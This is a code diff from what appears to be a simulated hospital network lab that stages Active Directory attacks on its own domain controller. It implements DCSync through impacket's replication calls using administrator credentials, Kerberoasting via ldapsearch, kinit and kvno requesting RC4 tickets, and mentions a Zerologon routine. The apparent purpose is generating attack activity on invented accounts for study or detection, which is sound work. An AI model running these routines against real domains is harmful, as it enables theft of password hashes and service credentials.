@@ -2,39 +2,56 @@
 
 from __future__ import annotations
 
-import sys
+from collections.abc import Sequence
 from contextlib import suppress
 from datetime import datetime
-from pathlib import Path
 
 from act import Doing
-from impacket.dcerpc.v5 import epm, nrpc, transport
+from impacket.dcerpc.v5 import drsuapi, epm, nrpc, transport
 from impacket.dcerpc.v5.rpcrt import DCERPCException
-from lan import RangeError
+from impacket.examples.secretsdump import RemoteOperations
 from office import PASSWORD
-from services.directory import ADMIN_PASSWORD, realm
+from services.directory import ADMIN_PASSWORD, DOMAIN, kerberos_conf, realm
 from space import call
 from state import Hospital
 
 NULL = bytes(8)
 FLAGS = 0x212FFFFF
 """What a controller of Windows Server 2008 R2 offers (MS-NRPC 3.1.4.2), without which AES is not used."""
+CHANNEL = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
 CLERK = "zzclerk"
+BY_NAME, BY_ID = drsuapi.DS_NAME_FORMAT.DS_NT4_ACCOUNT_NAME, drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME
 
 
-def replicate(secrets: str = "") -> Doing:
-    """DCSync: a workplace asks for what controllers tell each other (MS-DRSR 4.1.10 DRSGetNCChanges), by impacket's secretsdump.
+def replicate(names: Sequence[str]) -> Doing:
+    """DCSync: a workplace asks for what controllers tell each other, account by account (MS-DRSR 4.1.10 DRSGetNCChanges).
 
-    `secrets`: of whom; of all when left out. What comes back is of invented accounts, and is dropped.
+    By the calls of impacket's secretsdump. What comes back is of invented accounts, and nobody looks at it.
     """
 
     def doing(hospital: Hospital, moment: datetime) -> None:
-        who = f"{realm(hospital).lower()}/Administrator:{ADMIN_PASSWORD}@{hospital.address('dc')}"
-        told = _impacket("secretsdump.py", "-just-dc", *(["-just-dc-user", secrets] if secrets else []), who)
-        if ":::" not in told:
-            raise RangeError(f"nothing was replicated: {told[-200:]}")
+        remote = RemoteOperations(_LogIn(hospital.address("dc")), False)
+        for name in names:
+            found = remote.DRSCrackNames(BY_NAME, BY_ID, f"{DOMAIN}\\{name}")
+            with suppress(DCERPCException):  # Samba's answer is more than impacket reads
+                remote.DRSGetNCChangesGuid(found["pmsgOut"]["V1"]["pResult"]["rItems"][0]["pName"][:-1])
+        remote.getDrsr().disconnect()
 
     return doing
+
+
+class _LogIn:
+    """What impacket wants to know of a connection by SMB that we do not make: DCSync goes by TCP."""
+
+    def __init__(self, address: str) -> None:
+        self.getRemoteHost = self.getRemoteName = lambda: address
+
+    def setTimeout(self, seconds: int) -> None:
+        pass
+
+    @staticmethod
+    def getCredentials() -> tuple[object, ...]:
+        return "Administrator", ADMIN_PASSWORD, DOMAIN, "", "", "", None, None
 
 
 def zerologon(times: int) -> Doing:
@@ -54,21 +71,18 @@ def zerologon(times: int) -> Doing:
     return doing
 
 
-CHANNEL = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
-
-
-def collect_tickets(name: str = "") -> Doing:
-    """Kerberoasting: tickets in RC4 for accounts that services run under (RFC 4757), found by LDAP. `name`: of one account only."""
+def collect_tickets(name: str = "*") -> Doing:
+    """Kerberoasting: accounts that services run under, found by LDAP, and a ticket in RC4 for each (RFC 4757). `name`: one account's."""
 
     def doing(hospital: Hospital, moment: datetime) -> None:
-        who = f"{realm(hospital).lower()}/{CLERK}:{PASSWORD}-Zz1"
-        one = ["-request-user", name] if name else ["-request"]
-        told = _impacket("GetUserSPNs.py", who, "-dc-ip", hospital.address("dc"), *one)
-        if "$krb5tgs$23$" not in told:
-            raise RangeError(f"no ticket in RC4: {told[-300:]}")
+        address, clerk, password = hospital.address("dc"), f"{CLERK}@{realm(hospital)}", f"{PASSWORD}-Zz1"
+        env = {"KRB5_CONFIG": str(kerberos_conf(hospital)), "KRB5CCNAME": f"FILE:{hospital.folder('dc')}/roast"}
+        base = ",".join(f"dc={part}" for part in realm(hospital).lower().split("."))
+        sought = f"(&(servicePrincipalName=*)(sAMAccountName={name})(objectCategory=person))"
+        words = ["ldapsearch", "-LLL", "-x", "-H", f"ldap://{address}", "-D", clerk, "-w", password, "-b", base, sought]
+        told = call([*words, "servicePrincipalName"])
+        services = [line.split(": ")[1] for line in told.splitlines() if line.startswith("servicePrincipalName: ")]
+        call(["kinit", clerk], stdin=f"{password}\n", env=env)
+        call(["kvno", "-e", "rc4-hmac", *services], env=env)
 
     return doing
-
-
-def _impacket(program: str, *words: str) -> str:
-    return call([sys.executable, Path(sys.prefix) / "bin" / program, *words], env={"KRB5CCNAME": "FILE:/nonexistent"})
